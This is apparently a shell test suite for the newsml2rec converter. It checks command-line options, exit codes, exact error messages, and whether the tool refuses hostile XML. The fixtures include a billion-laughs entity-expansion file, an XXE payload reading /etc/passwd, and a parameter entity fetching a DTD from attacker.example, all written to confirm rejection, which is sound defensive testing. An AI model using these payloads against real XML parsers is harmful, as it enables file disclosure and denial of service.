# newsml2rec's command line: options, exit codes, the exact messages, and
# hostile XML (entity expansion, external entities, deep nesting, size),
# each refused quickly (timeout) with nothing on standard output.
source "$PP_SRC/tests/lib.sh"
source "$PP_SRC/tests/newsml2rec/common.sh"

for o in --help -h; do
  pp_run 0 "$N" $o
  pp_expect_grep "$PP_TMP/out" '^Usage: newsml2rec \[OPTION\]\.\.\. \[FILE\]\.\.\.$'
  pp_expect_grep "$PP_TMP/out" 'reads English'
done
for o in --version -V; do
  pp_run 0 "$N" $o
  pp_expect_grep "$PP_TMP/out" '^newsml2rec [0-9]+\.[0-9]+\.[0-9]+$'
done
usage() { # EXPECTED_FIRST_LINE ARGS...
  local want=$1
  shift
  pp_run 2 "$N" "$@" </dev/null
  pp_expect_file "$PP_TMP/err" "$want
Try 'newsml2rec --help' for more information."
  pp_expect_file "$PP_TMP/out" ""
}
usage "newsml2rec: unrecognized option '--bogus'" --bogus
usage "newsml2rec: invalid option -- 'x'" -x

# missing file: reported, the others read, exit 2
pp_run 2 "$N" "$PP_TMP/missing.xml" "$F/nitf-item.xml"
pp_expect_file "$PP_TMP/err" "newsml2rec: $PP_TMP/missing.xml: No such file or directory"
pp_expect_grep "$PP_TMP/out" '"headline":"Ferry timetable changes for the winter"'

# not XML, not NewsML, empty: rejected (1)
pp_run 1 "$N" <<<'not xml'
pp_expect_file "$PP_TMP/err" "newsml2rec: -:1: not well-formed XML: Start tag expected, '<' not found"
pp_run 1 "$N" <<<'<rss version="2.0"/>'
pp_expect_file "$PP_TMP/err" "newsml2rec: -:1: <rss> is not a NewsML-G2 newsMessage or newsItem"
pp_run 1 "$N" </dev/null
pp_expect_file "$PP_TMP/err" "newsml2rec: -: empty document"
pp_expect_file "$PP_TMP/out" ""
# a newsMessage without items
pp_run 1 "$N" <<<'<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"><header/><itemSet/></newsMessage>'
pp_expect_file "$PP_TMP/err" "newsml2rec: -:1: the newsMessage holds no item"

# hostile: refused within seconds, nothing read, nothing written
hostile() { # NAME EXPECTED_MESSAGE
  pp_checks=$((pp_checks + 1))
  timeout 10 "$N" "$PP_TMP/$1.xml" >"$PP_TMP/out" 2>"$PP_TMP/err"
  local st=$?
  [ $st = 1 ] || pp_fail "$1: exit $st, want 1"
  pp_expect_file "$PP_TMP/err" "$2"
  pp_expect_file "$PP_TMP/out" ""
}
# billion laughs: ten levels of ten (10^9 "lol"s if expanded)
{
  echo '<?xml version="1.0"?>'
  echo '<!DOCTYPE newsItem ['
  echo '  <!ENTITY lol0 "lol">'
  for i in 1 2 3 4 5 6 7 8 9; do
    printf '  <!ENTITY lol%d "' $i
    for _ in 1 2 3 4 5 6 7 8 9 10; do printf '&lol%d;' $((i - 1)); done
    echo '">'
  done
  echo ']>'
  echo '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x"><contentMeta><headline>&lol9;</headline></contentMeta></newsItem>'
} >"$PP_TMP/laughs.xml"
hostile laughs "newsml2rec: $PP_TMP/laughs.xml:3: entity \"lol0\" declared in the DTD: refused (NewsML-G2 uses no entities; entity expansion is not allowed)"
# external entity: a local file
cat >"$PP_TMP/xxe.xml" <<'XML'
<?xml version="1.0"?>
<!DOCTYPE newsItem [
  <!ENTITY secret SYSTEM "file:///etc/passwd">
]>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x"><contentMeta><headline>&secret;</headline></contentMeta></newsItem>
XML
hostile xxe "newsml2rec: $PP_TMP/xxe.xml:3: external entity \"secret\" (file:///etc/passwd) refused: nothing is read from files or the network"
# external parameter entity: a remote DTD
cat >"$PP_TMP/xxe-param.xml" <<'XML'
<?xml version="1.0"?>
<!DOCTYPE newsItem [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x"/>
XML
hostile xxe-param "newsml2rec: $PP_TMP/xxe-param.xml:3: external entity \"remote\" (http://attacker.example/evil.dtd) refused: nothing is read from files or the network"
# nesting deeper than libxml2's limit
python3 -c "print('<newsItem>' + '<a>' * 5000 + '</a>' * 5000 + '</newsItem>')" >"$PP_TMP/deep.xml"
hostile deep "newsml2rec: $PP_TMP/deep.xml:1: elements nested deeper than 256: refused"
# larger than 64 MiB
head -c $((64 * 1024 * 1024 + 1)) /dev/zero | tr '\0' ' ' >"$PP_TMP/huge.xml"
hostile huge "newsml2rec: $PP_TMP/huge.xml: document of 67108865 bytes refused: the limit is 64 MiB"
rm -f "$PP_TMP/huge.xml"
# an external DTD is not loaded: the item is read without it
printf '<?xml version="1.0"?>\n<!DOCTYPE newsItem SYSTEM "http://attacker.example/x.dtd">\n<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x"><itemMeta><itemClass qcode="ninat:text"/></itemMeta><contentMeta><headline>H</headline></contentMeta></newsItem>\n' >"$PP_TMP/extdtd.xml"
pp_run 0 timeout 10 "$N" "$PP_TMP/extdtd.xml"
pp_expect_grep "$PP_TMP/out" '"headline":"H"'

# a directory: its *.xml files in name order (a --split folder)
"$R" --sent "$SENT" --split "$PP_TMP/split" "$PP_SRC/fixtures/rec2newsml/many.jsonl" "$PP_SRC/fixtures/rec2newsml/basic.jsonl"
touch "$PP_TMP/split/notes.txt"
pp_run 0 "$N" "$PP_TMP/split"
pp_expect_file <(wc -l <"$PP_TMP/out") 2
mkdir "$PP_TMP/empty"
pp_run 1 "$N" "$PP_TMP/empty"
pp_expect_file "$PP_TMP/err" "newsml2rec: $PP_TMP/empty: no *.xml file in the directory"

# a failed write: exit 2
pp_checks=$((pp_checks + 1))
"$N" "$F/nitf-item.xml" >/dev/full 2>"$PP_TMP/err"
st=$?
[ "$st" = 2 ] || pp_fail "newsml2rec >/dev/full exited $st, want 2"
pp_expect_file "$PP_TMP/err" "newsml2rec: write error: No space left on device"
pp_done
